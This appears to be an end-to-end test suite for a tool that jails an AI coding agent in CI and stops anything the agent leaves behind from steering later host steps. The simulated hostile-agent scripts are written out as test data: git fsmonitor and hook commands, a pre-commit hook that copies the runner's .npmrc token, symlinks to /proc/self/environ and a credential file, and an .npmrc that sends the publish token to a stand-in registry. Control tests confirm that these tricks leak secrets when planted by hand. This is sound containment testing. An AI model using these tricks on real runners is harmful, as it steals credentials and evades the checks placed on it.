// End to end: issue 8's first two classes, each done by a hostile agent in the jail, then a later step
// replayed on the host as the runner's uid (a non-root user holding secrets of its own: a publish
// token in the environment, a registry token in its HOME) running `git status`, `git commit`, `cat`
// and `npm` in the real workspace. The replay must get nothing of the agent's making. Where a replay
// could pass for the wrong reason, a control puts the agent's file in place by hand in a copy and
// shows the same replay does get hit. Then the legitimate work: edits, new files, a deletion, a chmod
// and a commit arrive exactly, under the root path and the sudo path.
import { execFileSync, spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { buildGuard } from './helpers/build';
import { describeJail } from './helpers/jailAvailable';
import type { GuardRun } from './helpers/runGuard';
import { makeRunnerUser, type RunnerUser, SUDO } from './helpers/runnerUser';

type Elevation = 'root' | 'sudo';

interface FakeRegistry {
  url: string;
  seen: { url: string; authorization?: string }[];
  close(): void;
}

function startRegistry(): Promise<FakeRegistry> {
  const seen: FakeRegistry['seen'] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
    res.writeHead(404, { 'content-type': 'application/json' });
    res.end('{"error":"not found"}');
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const port = (server.address() as AddressInfo).port;
      resolve({ url: `http://127.0.0.1:${port}/`, seen, close: () => server.close() });
    });
  });
}

/** Every file under .git with its content hash: the real repository's metadata, to compare before and after. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const name of fs.readdirSync(path.join(dir, rel))) {
      const child = rel ? `${rel}/${name}` : name;
      const st = fs.lstatSync(path.join(dir, child));
      if (st.isDirectory()) walk(child);
      else out[child] = st.isSymbolicLink() ? `link ${fs.readlinkSync(path.join(dir, child))}` : crypto.createHash('sha256').update(fs.readFileSync(path.join(dir, child))).digest('hex');
    }
  };
  walk('');
  return out;
}

describeJail('the boundary: nothing the agent leaves behind steers a later step', () => {
  let guard: string;
  let user: RunnerUser;
  let legit: FakeRegistry;
  let evil: FakeRegistry;
  let outside: string;
  let counter = 0;
  const publishToken = `npm_PUBLISH_${crypto.randomBytes(8).toString('hex')}`;
  const homeSecret = `HOME_SECRET_${crypto.randomBytes(8).toString('hex')}`;

  beforeAll(async () => {
    guard = buildGuard();
    user = makeRunnerUser('agbound');
    legit = await startRegistry();
    evil = await startRegistry();
    // The runner's own npm config, as setup-node writes it: the token comes from the step's env.
    const host = legit.url.replace(/^http:/, '');
    fs.writeFileSync(path.join(user.home, '.npmrc'), `registry=${legit.url}\n${host}:_authToken=\${NODE_AUTH_TOKEN}\n`);
    fs.writeFileSync(path.join(user.home, '.git-credentials'), `https://x:${homeSecret}@github.com\n`);
    fs.mkdirSync(path.join(user.home, 'markers'));
    // A folder outside the workspace that the runner can write: what a planted link would redirect to.
    outside = path.join(user.home, 'outside');
    fs.mkdirSync(outside);
    execFileSync('chown', ['-R', `${user.uid}:${user.gid}`, user.home]);
  });

  afterAll(() => {
    legit?.close();
    evil?.close();
    user?.remove();
  });

  /** A checkout as actions/checkout leaves it, owned by the runner, with husky hooks and links the PR planted. */
  function checkout(): string {
    const ws = path.join(user.home, 'work', `case${counter++}`, 'repo');
    fs.mkdirSync(ws, { recursive: true });
    const files: Record<string, string> = {
      'README.md': 'hello\n', 'old.txt': 'old\n', 'tool.sh': '#!/bin/sh\necho tool\n', 'src/app.js': 'console.log(1)\n',
      '.husky/pre-commit': '#!/bin/sh\nexit 0\n',
    };
    for (const [rel, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
      fs.writeFileSync(path.join(ws, rel), text);
    }
    fs.chmodSync(path.join(ws, '.husky/pre-commit'), 0o755);
    fs.writeFileSync(path.join(outside, 'victim'), 'untouched\n');
    fs.symlinkSync(outside, path.join(ws, 'docs'));
    fs.symlinkSync(path.join(outside, 'victim'), path.join(ws, 'report.md'));
    const git = (...args: string[]) => execFileSync('git', ['-c', 'init.defaultBranch=main', ...args], { cwd: ws, env: { PATH: process.env.PATH, HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1' } });
    git('init', '-q');
    git('config', 'core.hooksPath', '.husky');
    git('add', '-A');
    git('-c', 'user.email=ci@example.com', '-c', 'user.name=CI', '-c', 'core.hooksPath=/dev/null', 'commit', '-qm', 'base');
    execFileSync('chown', ['-R', `${user.uid}:${user.gid}`, path.dirname(ws), outside]);
    return ws;
  }

  /** The agent's script under the guard: as root (self-hosted), or as the runner through sudo -n (hosted). */
  function runAgent(elevation: Elevation, ws: string, script: string): Promise<GuardRun> {
    const env = [`PATH=${process.env.PATH}`, `GITHUB_WORKSPACE=${ws}`, 'LANG=C.UTF-8'];
    const [file, args] = elevation === 'root'
      ? ['env', [...env, 'HOME=/root', process.execPath, guard, 'run', '--', 'sh', '-c', script]]
      : [SUDO!, ['-u', user.name, '-H', 'env', ...env, process.execPath, guard, 'run', '--', 'sh', '-c', script]];
    return new Promise((resolve) => {
      const child = spawn(file, args, { cwd: ws, stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
    });
  }

  /**
   * A later step: the runner's uid, its HOME, a publish token in the environment. Asynchronous, so the
   * fake registries in this process can answer while it runs.
   */
  function later(ws: string, command: string, args: string[], timeoutMs = 20_000): Promise<{ status: number | null; signal: string | null; stdout: string; stderr: string; ms: number }> {
    const started = Date.now();
    return new Promise((resolve) => {
      const child = spawn(command, args, {
        cwd: ws, uid: user.uid, gid: user.gid, stdio: ['ignore', 'pipe', 'pipe'],
        env: {
          PATH: process.env.PATH, HOME: user.home, NODE_AUTH_TOKEN: publishToken, GITHUB_TOKEN: publishToken,
          GIT_AUTHOR_NAME: 'CI', GIT_AUTHOR_EMAIL: 'ci@example.com', GIT_COMMITTER_NAME: 'CI', GIT_COMMITTER_EMAIL: 'ci@example.com',
          npm_config_cache: path.join(user.home, '.npm'), npm_config_update_notifier: 'false', npm_config_fetch_retries: '0',
        },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
      child.on('close', (status, signal) => {
        clearTimeout(timer);
        resolve({ status, signal, stdout, stderr, ms: Date.now() - started });
      });
    });
  }

  const marker = (name: string) => path.join(user.home, 'markers', `${name}-${counter}`);
  const expectRan = (r: GuardRun) => expect({ code: r.code, stderr: r.code === 0 ? '' : r.stderr.slice(-2000) }).toEqual({ code: 0, stderr: '' });

  describe.each<Elevation>(['root', 'sudo'])('guard as %s', (elevation) => {
    it('git commondir: the agent points .git at a config of its own; a later git status runs nothing', async () => {
      const ws = checkout();
      const gitBefore = snapshot(path.join(ws, '.git'));
      const hit = marker('commondir');
      const r = await runAgent(elevation, ws, [
        'mkdir -p evil/refs evil/objects && cp .git/HEAD evil/HEAD',
        `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${hit}"\\n' > evil/config`,
        'echo "$PWD/evil" > .git/commondir',
      ].join('\n'));
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.git\/: \d+ change\(s\) refused/);
      await later(ws, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(false);
      // Only the index, which git status itself refreshes, may differ.
      const { index: _after, ...gitAfter } = snapshot(path.join(ws, '.git'));
      const { index: _before, ...gitBeforeRest } = gitBefore;
      expect(gitAfter).toEqual(gitBeforeRest);
    });

    it('mv .git and a fresh .git with fsmonitor and hooks: the real repository stays, a later git status and commit run nothing', async () => {
      const ws = checkout();
      const gitBefore = snapshot(path.join(ws, '.git'));
      const hit = marker('freshgit');
      const r = await runAgent(elevation, ws, [
        'mv .git .git-orig', 'git init -q .', `git config core.fsmonitor "touch ${hit}-fsmonitor"`,
        'mkdir -p .evil-hooks', `printf '#!/bin/sh\\ntouch ${hit}-hook\\n' > .evil-hooks/pre-commit`, 'chmod +x .evil-hooks/pre-commit',
        'git config core.hooksPath .evil-hooks',
      ].join(' && '));
      expectRan(r);
      fs.appendFileSync(path.join(ws, 'README.md'), 'a later step edits\n');
      await later(ws, 'git', ['status']);
      const commit = await later(ws, 'git', ['commit', '-qam', 'later step']);
      expect(commit.status).toBe(0);
      expect([fs.existsSync(`${hit}-fsmonitor`), fs.existsSync(`${hit}-hook`)]).toEqual([false, false]);
      const after = snapshot(path.join(ws, '.git'));
      expect(after['config']).toBe(gitBefore['config']);
      expect(Object.keys(after).filter((k) => k.startsWith('hooks/'))).toEqual(Object.keys(gitBefore).filter((k) => k.startsWith('hooks/')));
      // The copied repository does not come back as something git would open either.
      expect(r.stderr).toMatch(/boundary: \.git-orig\/HEAD: refused: it would make its folder look like a git repository/);
      expect(fs.existsSync(path.join(ws, '.git-orig', 'HEAD'))).toBe(false);
    });

    it('core.fsmonitor in the config: refused; the same line put in by hand does run (control)', async () => {
      const ws = checkout();
      const hit = marker('fsmonitor');
      const r = await runAgent(elevation, ws, `git config core.fsmonitor "touch ${hit}" && git config --get core.fsmonitor`);
      expectRan(r);
      expect(r.stdout).toContain(hit);
      await later(ws, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(false);
      const control = `${ws}-control`;
      execFileSync('cp', ['-a', ws, control]);
      await later(control, 'git', ['config', 'core.fsmonitor', `touch ${hit}`]);
      await later(control, 'git', ['status']);
      expect(fs.existsSync(hit)).toBe(true);
    });

    it('core.hooksPath into the workspace (husky): the agent rewrites the hook; a later commit runs the real one', async () => {
      const ws = checkout();
      const hit = marker('husky');
      const hook = `#!/bin/sh\ncat "$HOME/.npmrc" > ${hit}\n`;
      const r = await runAgent(elevation, ws, `printf '${hook.replace(/\n/g, '\\n')}' > .husky/pre-commit && chmod +x .husky/pre-commit && echo agent >> README.md`);
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.husky\/(pre-commit)?: .*refused: .*(husky|hooksPath)/);
      expect(fs.readFileSync(path.join(ws, '.husky/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
      const commit = await later(ws, 'git', ['commit', '-qam', 'later step']);
      expect(commit.status).toBe(0);
      expect(fs.existsSync(hit)).toBe(false);
      // Control: the agent's hook in place runs at the same commit.
      fs.writeFileSync(path.join(ws, '.husky/pre-commit'), hook, { mode: 0o755 });
      fs.appendFileSync(path.join(ws, 'README.md'), 'again\n');
      expect((await later(ws, 'git', ['commit', '-qam', 'control'])).status).toBe(0);
      expect(fs.readFileSync(hit, 'utf8')).toContain('_authToken');
    });

    it('a report that is a symlink to /proc/self/environ or to a credential file in HOME: cat gets no secret', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, `ln -s /proc/self/environ agent-report.md && ln -s ${user.home}/.git-credentials summary.md && ln -s ../etc/passwd up.md`);
      expectRan(r);
      for (const name of ['agent-report.md', 'summary.md', 'up.md']) {
        expect(r.stderr).toContain(`boundary: ${name}: refused: a symlink`);
        const cat = await later(ws, 'cat', [name], 5000);
        expect(cat.stdout).not.toContain(publishToken);
        expect(cat.stdout).not.toContain(homeSecret);
      }
      // Control: the same link put in by hand does leak to the same cat.
      fs.symlinkSync('/proc/self/environ', path.join(ws, 'control.md'));
      expect((await later(ws, 'cat', ['control.md'])).stdout).toContain(publishToken);
    });

    it('a FIFO named like a log: a later cat returns at once instead of hanging', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, 'mkfifo build.log && mkdir -p logs && mkfifo logs/agent.log');
      expectRan(r);
      expect(r.stderr).toContain('boundary: build.log: refused: a FIFO');
      for (const log of ['build.log', 'logs/agent.log']) {
        const cat = await later(ws, 'cat', [log], 10_000);
        expect({ log, signal: cat.signal, fast: cat.ms < 5000 }).toEqual({ log, signal: null, fast: true });
      }
    });

    it('a workspace .npmrc sending the publish token to another host: refused; npm talks to the runner\'s registry only', async () => {
      const ws = checkout();
      const host = evil.url.replace(/^http:/, '');
      const npmrc = `registry=${evil.url}\n${host}:_authToken=\${NODE_AUTH_TOKEN}\n`;
      const r = await runAgent(elevation, ws, `printf '${npmrc.replace(/\n/g, '\\n')}' > .npmrc && printf 'x' > .yarnrc.yml`);
      expectRan(r);
      expect(r.stderr).toMatch(/boundary: \.npmrc: refused: npm reads a project \.npmrc/);
      expect((await later(ws, 'npm', ['config', 'get', 'registry'])).stdout.trim()).toBe(legit.url);
      const seenBefore = legit.seen.length;
      const view = await later(ws, 'npm', ['view', 'left-pad', 'version']);
      expect(evil.seen).toEqual([]);
      expect({ seen: legit.seen.length > seenBefore, stderr: legit.seen.length > seenBefore ? '' : view.stderr }).toEqual({ seen: true, stderr: '' });
      expect(legit.seen.length).toBeGreaterThan(seenBefore);
      expect(legit.seen[legit.seen.length - 1].authorization).toBe(`Bearer ${publishToken}`);
      // Control: the agent's .npmrc in place sends the token to the agent's host.
      fs.writeFileSync(path.join(ws, '.npmrc'), npmrc);
      await later(ws, 'npm', ['view', 'left-pad', 'version']);
      expect(evil.seen.map((s) => s.authorization)).toContain(`Bearer ${publishToken}`);
      evil.seen.length = 0;
    });

    it('links the pull request planted before the run cannot redirect the apply', async () => {
      const ws = checkout();
      const r = await runAgent(elevation, ws, 'rm docs && mkdir docs && echo agent > docs/victim && rm report.md && echo report > report.md');
      expectRan(r);
      expect(fs.readFileSync(path.join(outside, 'victim'), 'utf8')).toBe('untouched\n');
      expect(fs.lstatSync(path.join(ws, 'docs')).isDirectory()).toBe(true);
      expect(fs.readFileSync(path.join(ws, 'docs', 'victim'), 'utf8')).toBe('agent\n');
      expect(fs.lstatSync(path.join(ws, 'report.md')).isFile()).toBe(true);
      expect(fs.readFileSync(path.join(ws, 'report.md'), 'utf8')).toBe('report\n');
    });

    it('the legitimate work arrives exactly: edits, new files, a deletion, a chmod and a commit', async () => {
      const ws = checkout();
      const headBefore = (await later(ws, 'git', ['rev-parse', 'HEAD'])).stdout.trim();
      const before = snapshot(ws);
      const r = await runAgent(elevation, ws, [
        'echo more >> README.md', 'echo added > added.txt', 'mkdir -p new/dir && echo deep > new/dir/file.txt', 'rm old.txt', 'chmod +x tool.sh',
        'git config user.email agent@example.com', 'git config user.name Agent', 'git add -A', 'git commit -qm "agent: the work"',
      ].join(' && '));
      expectRan(r);
      const ref = /saved as (refs\/agent-guard\/\S+):/.exec(r.stderr)?.[1];
      expect(ref).toMatch(/^refs\/agent-guard\/[0-9a-f]+\/main$/);
      const after = snapshot(ws);
      const changed = [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((k) => !k.startsWith('.git/') && before[k] !== after[k]).sort();
      expect(changed).toEqual(['README.md', 'added.txt', 'new/dir/file.txt', 'old.txt']);
      expect(fs.readFileSync(path.join(ws, 'README.md'), 'utf8')).toBe('hello\nmore\n');
      expect(fs.statSync(path.join(ws, 'tool.sh')).mode & 0o777).toBe(0o755);
      for (const f of ['README.md', 'added.txt', 'new/dir/file.txt', 'new/dir', 'new']) expect({ f, uid: fs.statSync(path.join(ws, f)).uid }).toEqual({ f, uid: user.uid });
      expect((await later(ws, 'git', ['rev-parse', 'HEAD'])).stdout.trim()).toBe(headBefore);
      expect((await later(ws, 'git', ['log', '-1', '--format=%s', ref!])).stdout.trim()).toBe('agent: the work');
      expect((await later(ws, 'git', ['diff', '--name-status', 'HEAD', ref!])).stdout.trim().split('\n')).toEqual(['M\tREADME.md', 'A\tadded.txt', 'A\tnew/dir/file.txt', 'D\told.txt', 'M\ttool.sh']);
      expect((await later(ws, 'git', ['status', '--porcelain'])).stdout.trimEnd().split('\n')).toEqual([' M README.md', ' D old.txt', ' M tool.sh', '?? added.txt', '?? new/']);
      // The working tree is the commit's tree: nothing of the agent's is missing or extra.
      const tracked = (await later(ws, 'git', ['ls-tree', '-r', '--name-only', ref!])).stdout.trim().split('\n');
      for (const f of tracked) {
        const file = path.join(ws, f);
        const here = fs.lstatSync(file).isSymbolicLink() ? fs.readlinkSync(file) : fs.readFileSync(file, 'utf8');
        expect({ f, same: (await later(ws, 'git', ['show', `${ref}:${f}`])).stdout === here }).toEqual({ f, same: true });
      }
    });
  });

  it('fails closed, naming the boundary, when the overlay cannot be built (its upper layer on a filesystem overlayfs refuses)', async () => {
    const ws = checkout();
    const before = snapshot(ws);
    const scratch = fs.mkdtempSync('/var/tmp/agent-guard-e2e-ovl-');
    try {
      for (const d of ['l', 'u', 'w', 'm']) fs.mkdirSync(path.join(scratch, d));
      // In a private mount namespace of its own, TMPDIR (the guard's private folder) is itself an
      // overlay, which cannot be another overlay's upper layer.
      const script = 'mount -t overlay o -o lowerdir="$1/l",upperdir="$1/u",workdir="$1/w" "$1/m" && chmod 1777 "$1/m" && TMPDIR="$1/m" exec "$2" "$3" run -- sh -c "echo ran > ran.txt"';
      const r = spawn('unshare', ['--mount', '--propagation', 'private', '--', 'sh', '-c', script, 'sh', scratch, process.execPath, guard], {
        cwd: ws, env: { PATH: process.env.PATH, HOME: '/root', GITHUB_WORKSPACE: ws }, stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stderr = '';
      r.stderr.on('data', (d) => (stderr += d));
      const code = await new Promise<number | null>((resolve) => r.on('close', resolve));
      expect({ code, lines: stderr.trim().split('\n').length }).toEqual({ code: 125, lines: 1 });
      expect(stderr).toMatch(/^agent-guard: boundary layer: cannot mount an overlay over the workspace: .*the agent did not run$/m);
      expect(snapshot(ws)).toEqual(before);
    } finally {
      fs.rmSync(scratch, { recursive: true, force: true });
    }
  });
});
